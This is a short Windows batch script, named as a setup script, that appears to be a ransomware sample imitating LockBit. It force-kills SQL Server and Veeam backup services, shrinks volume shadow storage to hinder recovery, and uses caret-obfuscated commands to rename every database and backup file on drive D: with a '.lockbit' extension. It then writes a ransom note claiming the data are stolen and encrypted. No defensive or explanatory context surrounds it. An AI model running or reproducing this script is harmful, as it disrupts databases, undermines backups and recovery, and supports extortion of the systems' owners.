REM setup 4517 v0
@echo off
@echo off
set zrib=taskkill /f /im sqlservr.exe
call %zrib%
@echo off
set wcku=taskkill /f /im veeam.backup.service.exe
call %wcku%
@echo off
set fktx=vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB
call %fktx%
^fo^r /r D:\ %%i i^n (*.^m^df *.ld^f *.b^a^k) do r^e^n "%%i" "%%~nxi.lockbit"
@echo off
set qnai=echo Your data are stolen and encrypted ^> C:\README.txt
call %qnai%
